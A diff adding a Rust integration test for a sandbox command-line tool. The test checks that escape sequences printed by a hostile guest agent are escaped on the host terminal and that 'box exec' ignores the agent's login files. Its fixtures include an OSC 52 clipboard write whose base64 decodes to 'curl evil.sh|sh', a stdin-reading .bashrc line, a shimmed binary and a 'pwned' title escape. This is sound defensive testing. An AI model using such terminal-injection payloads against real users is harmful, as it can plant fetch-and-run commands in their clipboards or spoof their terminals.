@@ -191,6 +191,151 @@ fn exec_and_logs_on_a_running_box() {
     }
 }
 
+/// Guest bytes on the host's terminal, from a box whose agent is hostile or only noisy:
+///
+/// * `box logs` shows a line with an OSC 52 clipboard write escaped on a terminal, and
+///   passes it byte for byte to a pipe;
+/// * an error that quotes what the guest printed (an hb the agent replaced) shows its
+///   sequences escaped;
+/// * `box exec NAME -- printf x` prints exactly `x` whatever the agent's login files print
+///   (or read), in the agent's login environment still (what .bashrc exports, PATH,
+///   ~/workspace), and runs no `hb wire-mcp` (a person's login does).
+#[test]
+fn guest_bytes_on_the_host_terminal() {
+    if !prerequisites() {
+        return;
+    }
+    let _serial = serial();
+    let w = World::with_box("alpha");
+    const OSC52: &str = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07";
+
+    // A log line that writes the clipboard, and one that rewrites itself with CR.
+    w.sh(
+        "alpha",
+        r"printf 'first\n\033]52;c;Y3VybCBldmlsLnNofHNo\007copied\nok\rfake\n' >> /data/logs/workload.log",
+    );
+    let piped = w.run(&["logs", "alpha", "workload", "-n", "3"], &[]);
+    assert!(piped.ok(), "{piped}");
+    assert_eq!(
+        piped.stdout,
+        format!("first\n{OSC52}copied\nok\rfake\n"),
+        "piped: the bytes as they are"
+    );
+    let mut pty = pty_support::spawn(w.command(&["logs", "alpha", "workload", "-n", "3"], &[]));
+    let status = pty.wait(Duration::from_secs(60));
+    let shown = pty.shown();
+    assert!(status.success(), "{shown}");
+    assert!(
+        shown.contains("\\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07copied"),
+        "{shown:?}"
+    );
+    assert!(shown.contains("ok\\x0dfake"), "{shown:?}");
+    assert!(
+        !shown.contains('\x1b') && !shown.contains('\x07'),
+        "{shown:?}"
+    );
+    // Lines stay lines (the terminal's own CR LF).
+    assert!(shown.contains("first\r\n"), "{shown:?}");
+
+    // The agent's login files: noise on stdout and stderr, a read of stdin, an export.
+    w.sh(
+        "alpha",
+        r#"set -e; cd /data/home/agent
+        printf '%s\n' 'echo bashrc-out; echo bashrc-err >&2; read -r stolen || true' \
+          'printf "\033]0;bashrc-title\007"; export FROM_BASHRC=kept' >> .bashrc
+        printf '%s\n' 'echo bash-profile-out' >> .bash_profile
+        printf '%s\n' 'echo profile-out; echo profile-err >&2' >> .profile
+        chown agent:agent .bashrc .bash_profile .profile"#,
+    );
+    // Who runs `hb wire-mcp`: an hb that notes its verbs first (the agent can do this too).
+    w.sh(
+        "alpha",
+        r#"set -e; mv /usr/local/bin/hb /usr/local/bin/hb.real
+        printf '#!/bin/sh\necho "$1" >> /tmp/hb-verbs\nexec /usr/local/bin/hb.real "$@"\n' > /usr/local/bin/hb
+        chmod 755 /usr/local/bin/hb; : > /tmp/hb-verbs; chmod 666 /tmp/hb-verbs"#,
+    );
+    // A person's login runs the login files and refreshes the wiring (what the check
+    // below could miss).
+    let login = w.sh("alpha", "runuser -l agent -c 'echo logged-in' 2>&1");
+    assert!(
+        login.contains("bashrc-out") && login.contains("logged-in"),
+        "{login}"
+    );
+    assert!(
+        w.sh("alpha", "cat /tmp/hb-verbs").contains("wire-mcp"),
+        "a login does not refresh the wiring: the check below proves nothing"
+    );
+    w.sh("alpha", ": > /tmp/hb-verbs");
+
+    let (code, out, err) = exec(&w, &["--", "printf", "x"], b"");
+    assert_eq!(
+        (code, out.as_slice()),
+        (Some(0), &b"x"[..]),
+        "stderr: {err}"
+    );
+    assert!(!err.contains("-err") && !err.contains("-out"), "{err:?}");
+    // Input is the command's: the login files read none of it.
+    let (code, out, _) = exec(&w, &["--", "cat"], b"line one\nline two\n");
+    assert_eq!(
+        (code, String::from_utf8_lossy(&out).as_ref()),
+        (Some(0), "line one\nline two\n")
+    );
+    // Still the agent's login environment.
+    let (_, out, _) = exec_text(
+        &w,
+        &[
+            "--",
+            "sh",
+            "-c",
+            "echo $FROM_BASHRC; echo ${HERMES_BOX_EXEC:-unset}; echo $HERMES_BOX_DATA; pwd; case :$PATH: in *:/opt/hermes-box/bin:*) echo tools;; esac",
+        ],
+    );
+    assert_eq!(
+        out,
+        "kept\nunset\n/data\n/data/home/agent/workspace\ntools\n"
+    );
+    // On a terminal too: only the command's own output, its exit code.
+    let mut cmd = w.command(
+        &["exec", "alpha", "--", "sh", "-c", "printf x; exit 5"],
+        &[],
+    );
+    cmd.env("TERM", "xterm");
+    let mut pty = pty_support::spawn(cmd);
+    let status = pty.wait(Duration::from_secs(60));
+    let shown = pty.shown();
+    assert_eq!(status.code(), Some(5), "{shown}");
+    assert!(
+        !shown.contains("-out") && !shown.contains("title"),
+        "{shown:?}"
+    );
+    assert!(shown.contains('x'), "{shown:?}");
+    let verbs = w.sh("alpha", "cat /tmp/hb-verbs");
+    assert!(
+        !verbs.contains("wire-mcp"),
+        "box exec ran hb wire-mcp: {verbs}"
+    );
+
+    // An error that quotes what the guest printed: the agent's hb fails every verb, with
+    // a title, a screen clear and a CR in its words.
+    w.sh(
+        "alpha",
+        r#"printf '#!/bin/sh\nprintf "\\033]0;pwned\\007\\033[2Jnot ok\\rall good\\n" >&2\nexit 1\n' > /usr/local/bin/hb"#,
+    );
+    let save = w.run(&["save", "alpha"], &[]);
+    assert!(!save.ok(), "{save}");
+    assert!(
+        save.stderr
+            .contains("\\x1b]0;pwned\\x07\\x1b[2Jnot ok\\x0dall good"),
+        "{save}"
+    );
+    assert!(
+        !save.stderr.contains('\x1b') && !save.stderr.contains('\r'),
+        "{:?}",
+        save.stderr
+    );
+    w.sh("alpha", "mv /usr/local/bin/hb.real /usr/local/bin/hb");
+}
+
 /// One `--progress=json` line as a wrapper reads it.
 #[derive(Debug)]
 struct ProgressLine {
